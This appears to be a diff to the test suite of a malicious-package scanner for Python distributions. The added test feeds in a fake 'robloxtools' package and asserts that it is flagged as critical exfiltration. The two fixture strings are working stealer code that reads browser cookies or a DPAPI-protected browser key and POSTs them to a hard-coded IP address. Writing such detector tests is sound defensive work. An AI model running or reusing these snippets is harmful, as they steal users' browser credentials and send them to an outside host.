@@ -292,3 +292,17 @@ def test_build_backend_hook_file_runs_at_install(pyproject: str, hook_file: str)
     assert {s.phase for s in facts.signals if s.file == hook_file and s.kind == "flow.exfiltration"} == {"install"}
     result, top = verdict(data)
     assert result == "malicious", top
+
+
+@pytest.mark.parametrize("code", [
+    "import browser_cookie3, requests\n\ndef grab():\n    return {c.name: c.value for c in browser_cookie3.load()}\n\n"
+    "requests.post('http://45.61.136.9/c', json=grab())\n",
+    "import win32crypt, requests, base64\n"
+    "key = win32crypt.CryptUnprotectData(base64.b64decode(KEY)[5:], None, None, None, 0)[1]\n"
+    "requests.post('http://45.61.136.9/k', data=key)\n",
+])
+def test_browser_secrets_sent_at_import_are_exfiltration(code: str) -> None:
+    """Cookie-jar libraries and DPAPI hand over browser secrets without a path to recognise."""
+    result, top = verdict(sdist("robloxtools", "0.1", {"robloxtools/__init__.py": code,
+                                                        "setup.py": "from setuptools import setup\nsetup()\n"}))
+    assert result == "malicious" and "package.exfiltration:critical" in top, top
